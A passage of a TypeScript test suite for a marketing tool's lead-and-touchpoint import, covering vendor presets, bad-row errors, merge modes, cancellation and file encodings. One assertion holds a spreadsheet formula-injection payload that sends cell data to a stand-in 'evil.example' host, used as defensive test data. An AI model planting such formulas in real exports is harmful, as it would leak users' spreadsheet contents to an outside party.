import { readFileSync } from 'node:fs';
import { fileURLToPath, URL as NodeUrl } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { Campaign, Lead, Touchpoint } from '../model';
import { openLooplineDB, type DB } from '../store/db';
import { allTouchpoints } from '../store/touchpoints';
import { getWorkspaceLead, replaceWorkspace, workspaceHistory } from '../store/workspace';
import { exportWorkspaceJson } from './export';
import {
  fillLead,
  formatImportError,
  importWorkspace,
  MAX_REPORTED_ERRORS,
  previewImport,
  type ImportOptions,
} from './import';
import { LOOPLINE_CSV_COLUMNS, type PresetId } from './presets';
import { syntheticCsv } from './synthetic';

const FIXTURES = new NodeUrl('../../test/fixtures/imports/', import.meta.url);
const fixtureText = (name: string) => readFileSync(fileURLToPath(new NodeUrl(name, FIXTURES)), 'utf8');
const fixture = (name: string) => new Blob([readFileSync(fileURLToPath(new NodeUrl(name, FIXTURES)))]);

let dbCount = 0;
/** Every test gets its own database, so none sees another's data. */
const freshDb = () => openLooplineDB(`workspace-import-${++dbCount}-${Math.random().toString(36).slice(2)}`);

const options = (preset: PresetId, extra: Partial<ImportOptions> = {}): ImportOptions => ({
  preset,
  mode: 'replace',
  timeZone: 'UTC',
  ...extra,
});

async function snapshot(db: DB) {
  const [leads, touchpoints, campaigns] = await Promise.all([
    db.getAll('leads'),
    allTouchpoints(db),
    db.getAll('campaigns'),
  ]);
  return { leads, touchpoints, campaigns };
}

async function lead(db: DB, email: string): Promise<Lead> {
  const found = await getWorkspaceLead(db, email);
  if (!found) throw new Error(`no lead ${email}`);
  return found.lead;
}

/** A small sample workspace, to show that imports never touch it. */
const SAMPLE: { leads: Lead[]; touchpoints: Touchpoint[]; campaigns: Campaign[] } = {
  leads: [{ email: 'sample@sample.example', name: 'Sample Person', refs: [] }],
  touchpoints: [
    {
      id: 's-1',
      leadEmail: 'sample@sample.example',
      occurredAt: '2026-01-01T00:00:00.000Z',
      kind: 'page_view',
      title: 'Visited /',
      source: 'local',
    },
  ],
  campaigns: [{ id: 'sample-campaign', name: 'Sample campaign', channel: 'email' }],
};

describe('importWorkspace: presets', () => {
  it.each([
    [
      'hubspot-contacts.csv',
      'hubspot-contacts',
      { leads: 12, touchpoints: 35, campaigns: 0, rows: 12, skipped: 0 },
    ],
    [
      'hubspot-email-activity.csv',
      'hubspot-email',
      { leads: 5, touchpoints: 17, campaigns: 3, rows: 20, skipped: 3 },
    ],
    [
      'mailchimp-activity.csv',
      'mailchimp-email',
      { leads: 5, touchpoints: 15, campaigns: 4, rows: 15, skipped: 0 },
    ],
    [
      'marketo-activity-log.csv',
      'marketo-activity',
      { leads: 3, touchpoints: 18, campaigns: 7, rows: 19, skipped: 1 },
    ],
    ['loopline.csv', 'loopline-csv', { leads: 4, touchpoints: 16, campaigns: 7, rows: 17, skipped: 0 }],
    [
      'loopline-workspace.json',
      'loopline-json',
      { leads: 4, touchpoints: 6, campaigns: 2, rows: 13, skipped: 2 },
    ],
  ] as const)('imports %s with the %s preset', async (file, preset, counts) => {
    const db = await freshDb();
    const result = await importWorkspace(db, fixture(file), options(preset));
    expect(result).toEqual({ ok: true, ...counts, errors: [], errorCount: 0 });
    const stored = await snapshot(db);
    expect(stored.leads).toHaveLength(counts.leads);
    expect(stored.touchpoints).toHaveLength(counts.touchpoints);
    expect(stored.campaigns).toHaveLength(counts.campaigns);
    expect(stored.leads.every((l) => l.workspace === 'imported')).toBe(true);
    // Every touchpoint's campaign is in the campaign store.
    const campaignIds = new Set(stored.campaigns.map((c) => c.id));
    for (const t of stored.touchpoints) if (t.campaign) expect(campaignIds).toContain(t.campaign.id);
  });

  it('HubSpot contacts: lead fields, MQL date in both date styles, stage and form touchpoints', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    expect(await lead(db, 'maria.garcia@northwind-traders.com')).toEqual({
      email: 'maria.garcia@northwind-traders.com',
      name: 'Maria García',
      company: 'Northwind Traders',
      title: 'VP Marketing',
      lifecycleStage: 'Marketing Qualified Lead',
      leadStatus: 'Open',
      score: 72,
      owner: 'Sam Rivera',
      mqlAt: '2026-03-04T13:05:00.000Z',
      source: 'Organic Search',
      refs: [{ source: 'hubspot', id: '51234001' }],
    });
    expect((await lead(db, 'james.oconnor@brightside.io')).company).toBe('Brightside, Inc.');
    expect((await lead(db, 'chen.wei@deltadatalabs.com')).company).toBe('Delta "Data" Labs');
    // "02/27/2026 9:45 AM": US month-first style.
    expect((await lead(db, 'lars.eriksen@fjordsystems.no')).mqlAt).toBe('2026-02-27T09:45:00.000Z');
    const history = await workspaceHistory(db, 'maria.garcia@northwind-traders.com');
    // Touchpoints at the same instant come in id order, which is a hash: compare as a set.
    expect(history.map((t) => [t.occurredAt, t.kind, t.title]).sort()).toEqual([
      ['2025-11-02T09:14:00.000Z', 'content_download', 'Submitted “Pricing Guide eBook: Download”'],
      ['2025-11-02T09:14:00.000Z', 'stage_change', 'Became a Lead'],
      ['2026-03-04T13:05:00.000Z', 'form_submit', 'Submitted “Request a demo”'],
      ['2026-03-04T13:05:00.000Z', 'stage_change', 'Became a Marketing Qualified Lead'],
    ]);
  });

  it('HubSpot email activity: campaigns by HubSpot id, filtered and robot events marked as machine', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-email-activity.csv'), options('hubspot-email'));
    const maria = await workspaceHistory(db, 'maria.garcia@northwind-traders.com');
    expect(maria.map((t) => t.kind).sort()).toEqual([
      'email_click',
      'email_open',
      'email_open',
      'email_sent',
    ]);
    const machineOpen = maria.find((t) => t.kind === 'email_open' && t.machine);
    expect(machineOpen).toMatchObject({
      occurredAt: '2026-03-02T14:00:00.000Z',
      campaign: { id: 'hubspot-email-118822301', name: 'March Newsletter', channel: 'email' },
      title: 'Opened “Closing the loop: what marketing learned in Q1”',
      machineReason: 'HubSpot filtered it from reporting (bot or security scanner)',
    });
    expect(maria.find((t) => t.kind === 'email_click')?.url).toBe(
      'https://www.loopline.example/pricing?utm_source=hs_email',
    );
    const lars = await workspaceHistory(db, 'lars.eriksen@fjordsystems.no');
    expect(lars.filter((t) => t.machine).map((t) => [t.kind, t.machineReason])).toEqual([
      ['email_click', 'HubSpot saw a robot user agent'],
    ]);
    // HubSpot says these are emails: the channel is email whatever the name suggests, as through the API.
    expect(lars[0]?.campaign?.channel).toBe('email');
    expect(await db.get('campaigns', ['imported', 'hubspot-email-118823010'])).toMatchObject({
      channel: 'email',
    });
  });

  it('Mailchimp activity: names, campaigns and channels, links on clicks', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('mailchimp-activity.csv'), options('mailchimp-email'));
    expect((await lead(db, 'tom.becker@granite-co.de')).name).toBe('Tom Becker');
    const tom = await workspaceHistory(db, 'tom.becker@granite-co.de');
    expect(tom[0]).toMatchObject({
      kind: 'email_click',
      occurredAt: '2026-02-12T18:42:30.000Z',
      url: 'https://www.loopline.example/changelog#february',
      campaign: { id: 'mailchimp-campaign-a1b2c3d4e5', channel: 'email' },
    });
    const aiko = await workspaceHistory(db, 'aiko.tanaka@cobalt-logistics.com');
    expect(aiko.map((t) => t.occurredAt)).toContain('2026-02-13T07:02:44.000Z');
    const campaigns = await db.getAll('campaigns');
    // Mailchimp says every campaign is an email, as the connector reads them.
    expect(Object.fromEntries(campaigns.map((c) => [c.name, c.channel]))).toEqual({
      'February Product Update': 'email',
      'Pricing Guide eBook follow-up': 'email',
      'Weekly Digest #41': 'email',
      'SaaS Summit 2026 – Meet us at booth 12': 'email',
    });
  });

  it('Marketo activity log: lead ids, bot flags, program statuses, month-name dates', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('marketo-activity-log.csv'), options('marketo-activity'));
    expect(await lead(db, 'priya.patel@evergreenhealth.org')).toEqual({
      email: 'priya.patel@evergreenhealth.org',
      name: 'Priya Patel',
      refs: [{ source: 'marketo', id: '1004512' }],
    });
    const priya = await workspaceHistory(db, 'priya.patel@evergreenhealth.org');
    expect(priya.filter((t) => t.machine).map((t) => t.machineReason)).toEqual([
      'Marketo flagged bot activity (Proximity Pattern)',
      'Marketo flagged bot activity (Proximity Pattern)',
    ]);
    expect(priya.find((t) => t.kind === 'webinar_attended')).toMatchObject({
      occurredAt: '2026-02-19T17:00:00.000Z',
      title: 'Attended: 2026-02 Q1 Product Webinar',
      campaign: { name: '2026-02 Q1 Product Webinar', channel: 'webinar' },
    });
    expect(priya.some((t) => t.kind === 'webinar_registered')).toBe(true);
    const fatima = await workspaceHistory(db, 'fatima.okafor@helixrobotics.com');
    expect(fatima.map((t) => t.kind)).toEqual([
      'other',
      'other',
      'event_attended',
      'webinar_registered',
      'content_download',
      'list_added',
    ]);
    const sam = await workspaceHistory(db, 'sam.lee@orbital.space');
    expect(sam.find((t) => t.kind === 'page_view')).toMatchObject({
      url: 'https://www.loopline.example/demo',
      machine: true,
    });
  });

  it('Loopline CSV: repeated and blank lead columns, first value wins, multi-line details', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('loopline.csv'), options('loopline-csv'));
    // Ken's later row says "Tallgrass Bio Inc." (ignored: the company is known) and gives the
    // owner the first row left blank (taken).
    expect(await lead(db, 'ken.adeyemi@tallgrass.example')).toMatchObject({
      company: 'Tallgrass Bio',
      owner: 'Alex Chen',
    });
    expect(await workspaceHistory(db, 'rosa.lindqvist@nordlys.example')).toEqual([]);
    expect((await lead(db, 'rosa.lindqvist@nordlys.example')).lifecycleStage).toBe('salesqualifiedlead');
    const dana = await workspaceHistory(db, 'dana.whitfield@harbor-freight.example');
    expect(dana[0]).toMatchObject({
      kind: 'form_submit',
      detail: 'Message: "We need closed-loop reporting, ideally before Q2."\nTeam size: 12',
    });
    expect(dana.find((t) => t.kind === 'email_open')).toMatchObject({
      machine: true,
      machineReason: 'Opened 3 seconds after delivery',
    });
    expect(dana.find((t) => t.kind === 'page_view')?.occurredAt).toBe('2026-03-01T09:12:00.000Z');
    const ken = await workspaceHistory(db, 'ken.adeyemi@tallgrass.example');
    expect(ken.find((t) => t.id === 'lp-0001')?.campaign).toEqual({
      id: 'pricing-guide',
      name: 'Pricing Guide eBook',
      channel: 'content',
    });
    expect(ken.find((t) => t.id === 'lp-0005')?.campaign?.channel).toBe('paid_social');
  });

  it('Loopline JSON: keeps ids, skips the sample, creates leads named only by touchpoints', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('loopline-workspace.json'), options('loopline-json'));
    expect(await getWorkspaceLead(db, 'alex.morgan@sample.example')).toBeNull();
    expect(await lead(db, 'mei.ong@peakline.example')).toEqual({
      email: 'mei.ong@peakline.example',
      refs: [],
    });
    expect(await lead(db, 'dana.whitfield@harbor-freight.example')).toMatchObject({
      score30dAgo: 51,
      refs: [{ source: 'hubspot', id: '51234099' }],
    });
    const dana = await workspaceHistory(db, 'dana.whitfield@harbor-freight.example');
    expect(dana.map((t) => t.id)).toEqual(['hs-evt-4', 'hs-evt-3', 'hs-evt-2', 'hs-evt-1']);
    expect(dana[0]?.detail).toBe(
      'Message: "We need closed-loop reporting, ideally before Q2."\nTeam size: 12',
    );
  });
});

describe('importWorkspace: bad rows', () => {
  const BAD_ROWS = [
    { line: 4, reason: 'occurred_at: not a date ("31/02/2026")' },
    { line: 6, reason: 'email: not an email address ("maria.garcia@")' },
    {
      line: 8,
      reason: expect.stringMatching(
        /^kind: not a touchpoint kind \("webinar"\); expected one of email_sent, /,
      ),
    },
    {
      line: 10,
      reason: expect.stringMatching(
        /^broken CSV structure: unbalanced quote: .* \(the row runs on to line 11\)$/,
      ),
    },
    { line: 12, reason: 'broken CSV structure: expected 21 columns, found 13' },
    { line: 14, reason: 'mql_at: not a date ("2026-13-01")' },
  ];

  it('reports each bad row by line and writes nothing, leaving the workspaces as they were', async () => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    await importWorkspace(db, fixture('loopline.csv'), options('loopline-csv'));
    const before = await snapshot(db);
    for (const mode of ['replace', 'merge'] as const) {
      const result = await importWorkspace(db, fixture('bad-rows.csv'), options('loopline-csv', { mode }));
      expect(result.ok).toBe(false);
      expect(result.errors).toEqual(BAD_ROWS);
      expect(result.errorCount).toBe(6);
      expect(result.rows).toBe(14);
      expect(await snapshot(db)).toEqual(before);
    }
    expect(formatImportError({ line: 4, reason: 'occurred_at: not a date ("31/02/2026")' })).toBe(
      'line 4: occurred_at: not a date ("31/02/2026")',
    );
  });

  it('with allowPartial, imports the good rows only, still reporting the bad ones', async () => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    const result = await importWorkspace(
      db,
      fixture('bad-rows.csv'),
      options('loopline-csv', { allowPartial: true }),
    );
    expect(result).toMatchObject({
      ok: true,
      leads: 4,
      touchpoints: 8,
      campaigns: 3,
      rows: 14,
      errorCount: 6,
    });
    expect(result.errors).toEqual(BAD_ROWS);
    const stored = await snapshot(db);
    expect(
      stored.leads
        .filter((l) => l.workspace === 'imported')
        .map((l) => l.email)
        .sort(),
    ).toEqual([
      'leo.martins@cascata.example',
      'marcus.reid@tidewater.example',
      'olivia.brandt@kestrel.example',
      'yuki.sato@sakura-soft.example',
    ]);
    // The good rows of leads that also had bad ones are in; the bad rows are not.
    expect((await workspaceHistory(db, 'olivia.brandt@kestrel.example')).map((t) => t.kind)).toEqual([
      'email_open',
      'email_sent',
    ]);
    expect((await workspaceHistory(db, 'yuki.sato@sakura-soft.example')).map((t) => t.kind)).toEqual([
      'email_click',
    ]);
    // A formula in a note is data: stored as the text it is (exports neutralise it).
    const marcus = await workspaceHistory(db, 'marcus.reid@tidewater.example');
    expect(marcus.find((t) => t.kind === 'form_submit')?.detail).toBe(
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    );
    // The sample workspace is untouched.
    expect(stored.leads.filter((l) => l.workspace === 'sample')).toHaveLength(1);
    expect(stored.touchpoints.filter((t) => t.workspace === 'sample')).toHaveLength(1);
  });

  it('caps the error list and counts the rest', async () => {
    const header = LOOPLINE_CSV_COLUMNS.join(',');
    const row = (i: number) =>
      LOOPLINE_CSV_COLUMNS.map((c) =>
        c === 'email' ? `p${i}@x.example` : c === 'occurred_at' ? 'soon' : c === 'kind' ? 'page_view' : '',
      ).join(',');
    const text = [header, ...Array.from({ length: 1200 }, (_, i) => row(i))].join('\n');
    const db = await freshDb();
    const result = await importWorkspace(db, new Blob([text]), options('loopline-csv'));
    expect(result.ok).toBe(false);
    expect(result.errorCount).toBe(1200);
    expect(result.errors).toHaveLength(MAX_REPORTED_ERRORS);
    expect(result.errors[0]).toEqual({ line: 2, reason: 'occurred_at: not a date ("soon")' });
    expect(result.errors.at(-1)?.line).toBe(MAX_REPORTED_ERRORS + 1);
  });

  it.each([
    [
      'a file without the columns the preset needs',
      'loopline.csv',
      'marketo-activity',
      {
        line: 1,
        reason:
          'missing columns "Activity Date", "Activity Type", which the Marketo activity log export preset needs',
      },
    ],
    ['an empty file', '', 'loopline-csv', { line: 1, reason: 'the file is empty' }],
    [
      'a header without rows',
      'email,name\n',
      'loopline-csv',
      { line: 0, reason: 'nothing to import: the file has no data rows' },
    ],
    [
      'a CSV file as JSON',
      'loopline.csv',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file: it does not start with a JSON object' },
    ],
    [
      'a JSON file as CSV',
      'loopline-workspace.json',
      'loopline-csv',
      {
        line: 1,
        reason: 'this is a JSON file, not CSV: import it with the Loopline workspace (JSON) preset',
      },
    ],
    [
      'a newer JSON version',
      '{"format":"loopline-workspace","version":2,"leads":[]}',
      'loopline-json',
      { line: 1, reason: 'the file is version 2, newer than this Loopline reads (1): update the extension' },
    ],
    [
      'another JSON format',
      '{"format":"something-else","version":1}',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file (format "something-else")' },
    ],
    [
      'a JSON file without a format',
      '{"leads":[]}',
      'loopline-json',
      { line: 1, reason: 'not a Loopline workspace file: no "format": "loopline-workspace"' },
    ],
    [
      'a truncated JSON file',
      '{"format":"loopline-workspace","version":1,\n"leads":[\n{"email":"a@x.example"},\n{"email":"b@x',
      'loopline-json',
      { line: 4, reason: 'the file ends inside the "leads" list: it is cut short' },
    ],
  ] as const)('rejects %s as a whole and writes nothing', async (_what, source, preset, error) => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    const before = await snapshot(db);
    const file = source.endsWith('.csv') || source.endsWith('.json') ? fixture(source) : new Blob([source]);
    const result = await importWorkspace(db, file, options(preset));
    expect(result.ok).toBe(false);
    expect(result.errors).toEqual([error]);
    expect(await snapshot(db)).toEqual(before);
  });

  it('reports bad JSON records by their line and path', async () => {
    const text = [
      '{"format":"loopline-workspace","version":1,',
      '"leads":[',
      '{"email":"good@x.example","refs":[]},',
      '{"email":"not an email","refs":[]}',
      '],',
      '"touchpoints":[',
      '{"id":"t1","leadEmail":"good@x.example","occurredAt":"2026-02-30T10:00:00Z","kind":"page_view","source":"local"},',
      '{"id":"t2","leadEmail":"good@x.example","occurredAt":"2026-02-03T10:00:00Z","kind":"teleport","source":"local"},',
      '{"id":"t3", oops}',
      ']}',
    ].join('\n');
    const db = await freshDb();
    const result = await importWorkspace(db, new Blob([text]), options('loopline-json'));
    expect(result.ok).toBe(false);
    expect(result.errors.map((e) => [e.line, e.reason.replace(/:.*/, '')])).toEqual([
      [4, 'leads[1].email'],
      [7, 'touchpoints[0].occurredAt'],
      [8, 'touchpoints[1].kind'],
      [9, 'touchpoints[2]'],
    ]);
    expect(result.errors[0]?.reason).toBe('leads[1].email: not an email address ("not an email")');
    expect(result.errors[3]?.reason).toMatch(/^touchpoints\[2\]: not valid JSON/);
    expect(await snapshot(db)).toEqual({ leads: [], touchpoints: [], campaigns: [] });
  });
});

describe('importWorkspace: identity and modes', () => {
  it.each([
    ['hubspot-contacts.csv', 'hubspot-contacts'],
    ['hubspot-email-activity.csv', 'hubspot-email'],
    ['mailchimp-activity.csv', 'mailchimp-email'],
    ['marketo-activity-log.csv', 'marketo-activity'],
    ['loopline.csv', 'loopline-csv'],
    ['loopline-workspace.json', 'loopline-json'],
  ] as const)('re-importing %s in merge mode adds nothing', async (file, preset) => {
    const db = await freshDb();
    await importWorkspace(db, fixture(file), options(preset, { mode: 'merge' }));
    const once = await snapshot(db);
    const again = await importWorkspace(db, fixture(file), options(preset, { mode: 'merge' }));
    expect(again.ok).toBe(true);
    expect(await snapshot(db)).toEqual(once);
  });

  it('replace mode drops what the previous import had; merge mode keeps it', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    await importWorkspace(
      db,
      fixture('mailchimp-activity.csv'),
      options('mailchimp-email', { mode: 'merge' }),
    );
    // Tom is in both: his HubSpot fields stay, Mailchimp's touchpoints join his stage touchpoints.
    expect(await lead(db, 'tom.becker@granite-co.de')).toMatchObject({
      name: 'Tom Becker',
      company: 'Granite & Co',
      refs: [{ source: 'hubspot', id: '51234006' }],
    });
    expect((await workspaceHistory(db, 'tom.becker@granite-co.de')).map((t) => t.kind).sort()).toEqual([
      'email_click',
      'email_open',
      'email_sent',
      'form_submit',
    ]);
    expect((await snapshot(db)).leads).toHaveLength(12);

    await importWorkspace(
      db,
      fixture('mailchimp-activity.csv'),
      options('mailchimp-email', { mode: 'replace' }),
    );
    expect(await lead(db, 'tom.becker@granite-co.de')).toEqual({
      email: 'tom.becker@granite-co.de',
      name: 'Tom Becker',
      refs: [],
    });
    expect((await snapshot(db)).leads).toHaveLength(5);
  });

  it("merge mode: the file's values win over stored ones, which fill its gaps", async () => {
    const db = await freshDb();
    const file = (score: string, owner: string) =>
      new Blob([`email,name,score,owner\nx@y.example,${owner ? 'X Y' : ''},${score},${owner}\n`]);
    await importWorkspace(db, file('10', 'Sam'), options('loopline-csv'));
    await importWorkspace(db, file('55', ''), options('loopline-csv', { mode: 'merge' }));
    expect(await lead(db, 'x@y.example')).toEqual({
      email: 'x@y.example',
      name: 'X Y',
      score: 55,
      owner: 'Sam',
      refs: [],
    });
  });

  it('fillLead takes only missing fields and unions platform refs', () => {
    const a: Lead = {
      email: 'a@x.example',
      name: 'A',
      refs: [{ source: 'hubspot', id: '1', url: undefined }],
    };
    const b: Lead = {
      email: 'a@x.example',
      name: 'Other',
      company: 'Co',
      refs: [
        { source: 'hubspot', id: '1', url: undefined },
        { source: 'marketo', id: '9', url: undefined },
      ],
    };
    expect(fillLead(a, b)).toEqual({ email: 'a@x.example', name: 'A', company: 'Co', refs: b.refs });
  });

  it('fillLead gives back the known lead itself when the other adds nothing', () => {
    const known: Lead = {
      email: 'a@x.example',
      name: 'A',
      refs: [{ source: 'marketo', id: '9', url: undefined }],
    };
    const again: Lead = {
      email: 'a@x.example',
      name: 'B',
      refs: [{ source: 'marketo', id: '9', url: undefined }],
    };
    expect(fillLead(known, again)).toBe(known);
    const more = fillLead(known, { ...again, refs: [{ source: 'hubspot', id: '1', url: undefined }] });
    expect(more.refs).toEqual([...known.refs, { source: 'hubspot', id: '1', url: undefined }]);
    expect(known.refs).toHaveLength(1);
  });

  it('gives the same result however the file is cut into chunks (multi-byte characters, CRLF, quotes)', async () => {
    for (const [file, preset] of [
      ['loopline.csv', 'loopline-csv'],
      ['bad-rows.csv', 'loopline-csv'],
      ['hubspot-email-activity.csv', 'hubspot-email'],
      ['loopline-workspace.json', 'loopline-json'],
    ] as const) {
      const reference = await freshDb();
      const expected = await importWorkspace(
        reference,
        fixture(file),
        options(preset, { allowPartial: true }),
      );
      const expectedData = await snapshot(reference);
      const crlf = file.endsWith('.csv')
        ? new Blob([fixtureText(file).replace(/\n/g, '\r\n')])
        : fixture(file);
      for (const chunkBytes of [1, 3, 7, 64]) {
        const db = await freshDb();
        const result = await importWorkspace(
          db,
          chunkBytes === 7 ? crlf : fixture(file),
          options(preset, { allowPartial: true, chunkBytes }),
        );
        expect(result).toEqual(expected);
        expect(await snapshot(db)).toEqual(expectedData);
      }
    }
  });
});

describe('importWorkspace: progress and cancelling', () => {
  it('reports progress that never goes back and ends at 1 with every row', async () => {
    const db = await freshDb();
    const calls: [number, number][] = [];
    const result = await importWorkspace(
      db,
      fixture('loopline.csv'),
      options('loopline-csv', {
        chunkBytes: 200,
        onProgress: (fraction, rows) => calls.push([fraction, rows]),
      }),
    );
    expect(calls.length).toBeGreaterThan(5);
    for (let i = 1; i < calls.length; i++) {
      expect(calls[i]![0]).toBeGreaterThanOrEqual(calls[i - 1]![0]);
      expect(calls[i]![1]).toBeGreaterThanOrEqual(calls[i - 1]![1]);
    }
    expect(calls.every(([fraction]) => fraction >= 0 && fraction <= 1)).toBe(true);
    expect(calls.at(-1)).toEqual([1, result.rows]);
    // Before the write, the bar stops short of the end.
    expect(calls.at(-2)![0]).toBeLessThan(1);
  });

  it.each([
    ['while reading', (fraction: number) => fraction > 0],
    ['after reading, before writing', (fraction: number) => fraction >= 0.95],
  ])('cancelling %s rejects and writes nothing', async (_when, shouldAbort) => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    const before = await snapshot(db);
    const controller = new AbortController();
    const reason = new Error('cancelled by the user');
    const run = importWorkspace(
      db,
      fixture('loopline.csv'),
      options('loopline-csv', {
        chunkBytes: 300,
        signal: controller.signal,
        onProgress: (fraction) => {
          if (shouldAbort(fraction) && !controller.signal.aborted) controller.abort(reason);
        },
      }),
    );
    await expect(run).rejects.toBe(reason);
    expect(await snapshot(db)).toEqual(before);
  });

  it('rejects at once with a signal already aborted', async () => {
    const db = await freshDb();
    const controller = new AbortController();
    controller.abort();
    await expect(
      importWorkspace(db, fixture('loopline.csv'), options('loopline-csv', { signal: controller.signal })),
    ).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(await snapshot(db)).toEqual({ leads: [], touchpoints: [], campaigns: [] });
  });
});

describe('importWorkspace: staged writes', () => {
  it('cancelling while batches are being written leaves the earlier data and no staged rows', async () => {
    const db = await freshDb();
    await replaceWorkspace(db, 'sample', SAMPLE);
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    const before = await snapshot(db);
    const records = await db.count('touchpoints');
    const controller = new AbortController();
    const reason = new Error('cancelled by the user');
    let staged = 0;
    const run = importWorkspace(
      db,
      fixture('loopline.csv'),
      options('loopline-csv', {
        chunkBytes: 200,
        batchTouchpoints: 2,
        signal: controller.signal,
        onProgress: () => {
          // Abort only once batches have reached the database.
          if (controller.signal.aborted) return;
          void db.count('touchpoints').then((count) => {
            staged = Math.max(staged, count - records);
            if (count > records) controller.abort(reason);
          });
        },
      }),
    );
    await expect(run).rejects.toBe(reason);
    expect(staged).toBeGreaterThan(0);
    expect(await snapshot(db)).toEqual(before);
    expect(await db.count('touchpoints')).toBe(records);
  });

  it('after onCommit, cancelling no longer stops the import', async () => {
    const db = await freshDb();
    const controller = new AbortController();
    const result = await importWorkspace(
      db,
      fixture('loopline.csv'),
      options('loopline-csv', {
        signal: controller.signal,
        onCommit: () => controller.abort(new Error('too late')),
      }),
    );
    expect(result).toMatchObject({ ok: true, leads: 4, touchpoints: 16 });
    expect((await snapshot(db)).touchpoints).toHaveLength(16);
  });

  it('writes the same workspace in batches of any size, merge mode and repeated ids included', async () => {
    const results = [];
    for (const batchTouchpoints of [1, 3, 1000]) {
      const db = await freshDb();
      await importWorkspace(db, fixture('hubspot-email-activity.csv'), options('hubspot-email'));
      const csv = [
        LOOPLINE_CSV_COLUMNS.join(','),
        'ada@example.com,Ada,,,,,,,,,t-1,2026-01-01T00:00:00Z,page_view,,,,first,,,,',
        'ada@example.com,,,,,,,,,,t-2,2026-01-02T00:00:00Z,page_view,,,,second,,,,',
        'bob@example.com,Bob,,,,,,,,,t-3,2026-01-03T00:00:00Z,page_view,,,,third,,,,',
        // The same id again, later in the file: it replaces the first.
        'ada@example.com,,,,,,,,,,t-1,2026-01-04T00:00:00Z,page_view,,,,first again,,,,',
      ].join('\n');
      const result = await importWorkspace(
        db,
        new Blob([csv]),
        options('loopline-csv', { mode: 'merge', batchTouchpoints, chunkBytes: 64 }),
      );
      expect(result).toMatchObject({ ok: true, touchpoints: 3 });
      const ada = await workspaceHistory(db, 'ada@example.com');
      expect(ada.map((t) => t.title)).toEqual(['first again', 'second']);
      const stored = await snapshot(db);
      results.push(stored);
      expect(await db.count('touchpoints')).toBeGreaterThan(0);
    }
    expect(results[1]).toEqual(results[0]);
    expect(results[2]).toEqual(results[0]);
  });
});

describe('importWorkspace: files that are not text', () => {
  const PNG = new Uint8Array([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00,
    0x00, 0x01, 0x00,
  ]);

  it('says a PNG renamed .csv is not a text file, and changes nothing', async () => {
    const db = await freshDb();
    await importWorkspace(db, fixture('hubspot-contacts.csv'), options('hubspot-contacts'));
    const before = await snapshot(db);
    const result = await importWorkspace(db, new File([PNG], 'leads.csv'), options('marketo-activity'));
    expect(result).toMatchObject({ ok: false, errorCount: 1 });
    expect(result.errors).toEqual([{ line: 0, reason: 'this is not a text file (it is a PNG image)' }]);
    expect(await snapshot(db)).toEqual(before);
    expect((await previewImport(new File([PNG], 'leads.csv'))).problem).toBe(
      'this is not a text file (it is a PNG image)',
    );
  });

  it.each([
    ['NUL bytes', new Uint8Array([0x45, 0x6d, 0x61, 0x69, 0x6c, 0x00, 0x01, 0x02, 0x0a])],
    ['control bytes that are not UTF-8', new Uint8Array([0x45, 0x6d, 0xff, 0x03, 0x04, 0x9f, 0x0a])],
  ])('calls a file with %s binary', async (_what, bytes) => {
    const result = await importWorkspace(await freshDb(), new Blob([bytes]), options('loopline-csv'));
    expect(result.ok).toBe(false);
    expect(result.errors[0]!.reason).toMatch(/^this is not a text file: it holds binary data/);
  });
});

describe('importWorkspace: encodings and dialects', () => {
  it('reads Windows-1252 files as spreadsheets save them', async () => {
    const text = 'email,name\r\nmuller@x.example,J\u00fcrgen M\u00fcller\r\n';
    const bytes = Uint8Array.from(text, (c) => c.charCodeAt(0)); // Latin-1 = Windows-1252 here
    const db = await freshDb();
    expect((await importWorkspace(db, new Blob([bytes]), options('loopline-csv'))).ok).toBe(true);
    expect((await lead(db, 'muller@x.example')).name).toBe('Jürgen Müller');
  });

  it('reads Excel\'s UTF-16 tab-separated "Unicode text"', async () => {
    const text = '\ufeffemail\tname\r\nzoe@x.example\tZo\u00eb\r\n';
    const bytes = new Uint8Array(text.length * 2);
    for (let i = 0; i < text.length; i++) {
      bytes[2 * i] = text.charCodeAt(i) & 0xff;
      bytes[2 * i + 1] = text.charCodeAt(i) >> 8;
    }
    const db = await freshDb();
    expect((await importWorkspace(db, new Blob([bytes]), options('loopline-csv'))).ok).toBe(true);
    expect((await lead(db, 'zoe@x.example')).name).toBe('Zoë');
  });

  it('reads a UTF-8 file with a byte-order mark and semicolons', async () => {
    const db = await freshDb();
    const result = await importWorkspace(
      db,
      new Blob(['\ufeffemail;company\nana@x.example;"Acme; Inc."\n']),
      options('loopline-csv'),
    );
    expect(result.ok).toBe(true);
    expect((await lead(db, 'ana@x.example')).company).toBe('Acme; Inc.');
  });
});

describe('JSON export → import', () => {
  it('round-trips the imported workspace and leaves the sample out', async () => {
    const source = await freshDb();
    await replaceWorkspace(source, 'sample', SAMPLE);
    await importWorkspace(source, fixture('loopline.csv'), options('loopline-csv'));
    await importWorkspace(
      source,
      fixture('marketo-activity-log.csv'),
      options('marketo-activity', { mode: 'merge' }),
    );
    const json = await exportWorkspaceJson(source, { now: new Date('2026-03-05T12:00:00Z') });

    const target = await freshDb();
    const result = await importWorkspace(
      target,
      new Blob([json]),
